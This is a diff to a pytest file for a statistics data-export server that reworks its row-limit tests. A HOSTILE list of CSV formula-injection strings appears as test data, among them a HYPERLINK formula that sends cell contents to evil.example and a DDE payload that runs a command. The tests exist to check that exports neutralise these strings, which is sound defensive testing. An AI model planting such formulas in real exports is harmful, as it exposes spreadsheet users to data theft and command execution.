@@ -31,7 +31,6 @@ from .conftest import running_server
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1",
            "\rCR=1", "=cmd|' /C calc'!A0", "-"]
 HARMLESS = ["plain text", "Survey 2019 (MICS)", " =leading space", "'already quoted", "", "5-17", "<18"]
-ROW_LIMIT = 8
 
 
 def parse_csv(text: str) -> list[dict]:
@@ -138,16 +137,28 @@ def hostile_warehouse(warehouse, tmp_path_factory):
                            SELECT * REPLACE (1901 + ? AS year, ? AS footnote, ? AS value, ? AS lower)
                            FROM observations WHERE is_current AND series = ? AND geo = ? LIMIT 1""",
                         [i, note, -(i + 0.5), -(i + 10.25), *base])
+        n_series, n_geos = con.execute("SELECT (SELECT count(*) FROM series), (SELECT count(*) FROM geographies)"
+                                        ).fetchone()
     finally:
         con.close()
+    assert n_geos > max(n_series, len(HOSTILE)), "the row-limit tests need more geographies than series"
     return path, base
 
 
 @pytest.fixture(scope="module")
-def hostile_server(hostile_warehouse):
+def row_limit(hostile_warehouse):
+    """A tiny limit: the series catalogue fits exactly (the server fixture waits on /api/v1/series.csv),
+    the geographies do not."""
+    path, _ = hostile_warehouse
+    with contextlib.closing(duckdb.connect(str(path), read_only=True)) as con:
+        return max(con.execute("SELECT count(*) FROM series").fetchone()[0], len(HOSTILE))
+
+
+@pytest.fixture(scope="module")
+def hostile_server(hostile_warehouse, row_limit):
     path, _ = hostile_warehouse
     with pytest.MonkeyPatch.context() as mp:
-        mp.setenv("SDG87_EXPORT_ROW_LIMIT", str(ROW_LIMIT))
+        mp.setenv("SDG87_EXPORT_ROW_LIMIT", str(row_limit))
         with running_server(path) as base:
             mp.undo()
             yield base
@@ -200,17 +211,20 @@ def test_cli_export_neutralises(hostile_warehouse):
 
 # ---- row limit -----------------------------------------------------------------------------------------
 
-def test_row_limit_refuses_with_clear_message(hostile_server):
+def test_row_limit_refuses_with_clear_message(hostile_server, row_limit):
+    for path in ("/api/v1/geographies.csv", "/api/v1/geographies.parquet", "/api/v1/observations.csv"):
+        r = requests.get(hostile_server + path, timeout=60)
+        assert r.status_code == 400, path
+        assert r.headers["Content-Type"].startswith("text/plain")
+        assert f"above the limit of {row_limit:,} rows" in r.text
+        assert "narrow it with series, geo, sex, age, from or to" in r.text
+        assert "Traceback" not in r.text
+
+
+def test_row_limit_allows_extracts_up_to_the_limit(hostile_server, row_limit):
     r = requests.get(f"{hostile_server}/api/v1/series.csv", timeout=60)
-    assert r.status_code == 400
-    assert r.headers["Content-Type"].startswith("text/plain")
-    assert f"above the limit of {ROW_LIMIT:,} rows" in r.text
-    assert "narrow it" in r.text
-    r = requests.get(f"{hostile_server}/api/v1/observations.parquet", timeout=60)
-    assert r.status_code == 400 and "limit" in r.text
-
-
-def test_row_limit_allows_small_extracts(hostile_server):
+    assert r.status_code == 200, r.text
+    assert len(parse_csv(r.text)) == int(r.headers["X-SDG87-Rows"]) <= row_limit
     r = requests.get(f"{hostile_server}/api/v1/geographies.csv", params={"geo": "NGA,WLD"}, timeout=60)
     assert r.status_code == 200, r.text
     assert len(parse_csv(r.text)) == 2
